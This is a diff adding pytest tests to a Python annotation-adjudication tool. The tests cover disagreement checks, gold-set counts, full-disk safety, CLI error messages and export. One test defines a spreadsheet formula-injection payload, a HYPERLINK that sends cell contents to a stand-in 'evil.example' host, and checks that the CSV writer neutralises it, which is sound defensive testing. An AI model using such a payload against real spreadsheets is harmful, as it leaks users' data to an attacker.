@@ -107,6 +107,9 @@ def write(path: Path, rows: list[dict]) -> Path:
 
 
 def test_apply_adjudications_validates_everything_before_writing(tmp_path):
+    for sid in ("s1", "s2", "s3"):  # three real disagreements to adjudicate
+        record(tmp_path, "a1", sid, E)
+        record(tmp_path, "a2", sid, N)
     bad = write(tmp_path / "bad.csv", [
         {"segment_id": "s1", "label": C, "reason": "rule 6"},
         {"segment_id": "s99", "label": C, "reason": "x"},
@@ -181,3 +184,149 @@ def test_xitu_agree_command(tmp_path):
     out = run("--apply", str(tmp_path / "bad.csv"))
     assert out.returncode == 2 and "nothing written" in out.stderr and "needs its reason" in out.stderr
     assert len(read_log(labels / "adjudicated.jsonl").entries) == 1
+
+
+def test_adjudications_on_a_full_disk_leave_the_log_byte_identical(tmp_path, monkeypatch):
+    from test_labels import _disk_fills_midway
+    from xitu import labels as L
+
+    for sid in ("s1", "s2", "s3"):
+        record(tmp_path, "a1", sid, E)
+        record(tmp_path, "a2", sid, C)
+    record(tmp_path, ADJUDICATED, "s4", N, reason="earlier round")  # an earlier adjudication
+    log = tmp_path / "adjudicated.jsonl"
+    before = log.read_bytes()
+    path = write(tmp_path / "filled.csv", [{"segment_id": s, "label": C, "reason": "rule 6"} for s in ("s1", "s2", "s3")])
+    cur = replay(read_logs(tmp_path).entries)
+    _disk_fills_midway(monkeypatch, L)
+    with pytest.raises(LabelError) as err:
+        apply_adjudications(path, tmp_path, segs(5), current=cur)
+    assert log.read_bytes() == before
+    assert "\n" not in str(err.value) and "No space left" in str(err.value)
+
+
+def test_apply_refuses_segments_not_in_disagreement(tmp_path):
+    record(tmp_path, "a1", "s1", E)
+    record(tmp_path, "a2", "s1", C)  # a disagreement
+    record(tmp_path, "a1", "s2", N)
+    record(tmp_path, "a2", "s2", N)  # two annotators agree
+    record(tmp_path, "a1", "s3", S)  # a single label
+    rows = [{"segment_id": s, "label": C, "reason": "rule 6"} for s in ("s1", "s2", "s3", "s4")]
+    with pytest.raises(LabelError) as err:
+        apply_adjudications(write(tmp_path / "f.csv", rows), tmp_path, segs(5))
+    msg = str(err.value)
+    assert "f.csv:3: segment s2 is not in disagreement (its annotators agree on none)" in msg
+    assert "f.csv:4: segment s3 is not in disagreement" in msg and "f.csv:5: segment s4 is not in disagreement" in msg
+    assert "f.csv:2" not in msg and not (tmp_path / "adjudicated.jsonl").exists()
+    n = apply_adjudications(write(tmp_path / "ok.csv", rows[:1]), tmp_path, segs(5))
+    assert n["written"] == 1
+
+
+def test_xitu_labels_import_refuses_the_adjudication_log(tmp_path):
+    root = tmp_path
+    (root / "data" / "labels").mkdir(parents=True)
+    shutil.copytree(ROOT / "data" / "raw", root / "data" / "raw")
+    (root / "in.csv").write_text("segment_id,label,reason\nx,none,because\n", encoding="utf-8")
+    out = subprocess.run([sys.executable, "-m", "xitu.cli", "labels", "import", str(root / "in.csv"),
+                          "--annotator", "adjudicated"], env={**os.environ, "XITU_ROOT": str(root)}, cwd=root,
+                         capture_output=True, text=True, timeout=60)
+    assert out.returncode == 2 and "xitu agree --apply" in out.stderr and "Traceback" not in out.stderr
+    assert len(out.stderr.strip().splitlines()) == 1
+    assert not (root / "data" / "labels" / "adjudicated.jsonl").exists()
+
+
+def test_the_same_gold_count_in_every_report(tmp_path):
+    """Three annotators, one dissent: in gold by majority, and every report says the same."""
+    from xitu.labelling import LabellingSession, label_status
+    from xitu.paths import Paths
+
+    root = tmp_path
+    (root / "data" / "labels").mkdir(parents=True)
+    p = Paths(root)
+    for a, lab in (("a1", N), ("a2", N), ("a3", N), ("a4", E)):
+        record(p.labels, a, "s0", lab)  # 3 of 4: majority (before: out of gold)
+    for a, lab in (("a1", N), ("a2", E)):
+        record(p.labels, a, "s1", lab)  # a tie: waits for adjudication
+    record(p.labels, "a1", "s2", C)  # single: waits for a second opinion
+    cur = replay(read_logs(p.labels).entries)
+    line = "gold set: 2 segments (majority 1, single 1); waiting for adjudication: 1"
+    assert gold_labels(cur)[0].values.tolist() == [["s0", N, "majority"], ["s2", C, "single"]]
+    assert line in label_status(p).summary
+    assert line in agreement_report(cur, segs(5)).summary()
+    seg = segs(5).assign(article_id="x", position=0, language="en", source="src", queries="q")
+    s = LabellingSession("a5", seg, p.labels, order="corpus", show_guess=False)
+    assert line in s.describe()
+    s.close()
+
+
+def test_disagreements_csv_neutralises_formulas_but_the_logs_keep_the_text(tmp_path):
+    """Formula injection (issue 12, item 12): a segment and a reason beginning with
+    =HYPERLINK( reach the spreadsheet as text; the stored reason is unchanged."""
+    from xitu.agreement import write_csv
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    record(tmp_path, "a1", "s1", E)
+    record(tmp_path, "a2", "s1", C)
+    record(tmp_path, ADJUDICATED, "s1", C, reason=evil)
+    seg = segs(5)
+    seg.loc[seg.segment_id == "s1", "text"] = "=1+2 " + evil
+    cur = replay(read_logs(tmp_path).entries)
+    table = disagreements(cur, seg, include_adjudicated=True)
+    out = write_csv(table, tmp_path / "out" / "disagreements.csv")
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # Excel shows the Chinese
+    back = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert back.loc[0, "adjudication_reason"] == "'" + evil and back.loc[0, "text"] == "'=1+2 " + evil
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in back.astype(str).values.ravel())
+    assert read_log(tmp_path / "adjudicated.jsonl").entries[0]["reason"] == evil  # stored text unchanged
+
+
+def test_cli_file_errors_are_one_line_and_exit_2(tmp_path):
+    """A folder given as the table, a GBK table, an output in an unwritable folder or a
+    folder where the output file should be: one line, exit 2, no traceback (item 13)."""
+    root = tmp_path
+    (root / "data" / "labels").mkdir(parents=True)
+    shutil.copytree(ROOT / "data" / "raw", root / "data" / "raw")
+    from xitu.corpus import ingest
+
+    ids = list(ingest(root / "data" / "raw").segments["segment_id"][:2])
+    record(root / "data" / "labels", "p1", ids[0], E)
+    record(root / "data" / "labels", "p2", ids[0], C)
+    (root / "gbk.csv").write_bytes(f"segment_id,label,reason\n{ids[0]},none,稀土\n".encode("gbk"))
+    (root / "a-folder.csv").mkdir()
+    env = {**os.environ, "XITU_ROOT": str(root)}
+    cases = [(["labels", "import", str(root / "a-folder.csv"), "--annotator", "p3"], "is a folder"),
+             (["agree", "--apply", str(root / "a-folder.csv")], "is a folder"),
+             (["agree", "--apply", str(root / "gbk.csv")], "gbk.csv:2: not UTF-8"),
+             (["labels", "import", str(root / "gbk.csv"), "--annotator", "p3"], "gbk.csv:2: not UTF-8"),
+             (["agree", "--out", "/proc/disagreements.csv"], "/proc"),  # not writable, even for root
+             (["agree", "--out", str(root / "a-folder.csv")], "a-folder.csv")]
+    for args, expected in cases:
+        out = subprocess.run([sys.executable, "-m", "xitu.cli", *args], env=env, cwd=root, capture_output=True,
+                             text=True, timeout=60)
+        assert out.returncode == 2, (args, out.stderr)
+        assert "Traceback" not in out.stderr and len(out.stderr.strip().splitlines()) == 1, (args, out.stderr)
+        assert expected in out.stderr, (args, out.stderr)
+
+
+def test_xitu_labels_export_and_version(tmp_path):
+    root = tmp_path
+    (root / "data" / "labels").mkdir(parents=True)
+    shutil.copytree(ROOT / "data" / "raw", root / "data" / "raw")
+    for f in (ROOT / "data" / "labels").glob("*.jsonl"):
+        shutil.copy(f, root / "data" / "labels")
+    env = {**os.environ, "XITU_ROOT": str(root)}
+    run = lambda *a: subprocess.run([sys.executable, "-m", "xitu.cli", *a], env=env, cwd=root, capture_output=True,
+                                    text=True, timeout=120)
+    out = run("labels", "export")
+    assert out.returncode == 0, out.stderr
+    assert "gold set: 380 segments (agreed 351, adjudicated 29)" in out.stdout
+    sheet = pd.read_csv(root / "build" / "labels" / "gold.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert len(sheet) == 380 and set(sheet["decided_by"]) == {"agreed", "adjudicated"}
+    assert sheet["text"].ne("").all() and sheet["annotators"].str.startswith("a1=").all()
+    out = run("labels", "export", "--format", "jsonl", "--out", str(root / "g.jsonl"))
+    assert out.returncode == 0 and len((root / "g.jsonl").read_text(encoding="utf-8").splitlines()) == 380
+    from importlib.metadata import version
+
+    out = run("--version")
+    assert out.returncode == 0 and out.stdout.strip() == f"xitu {version('xitu')}"
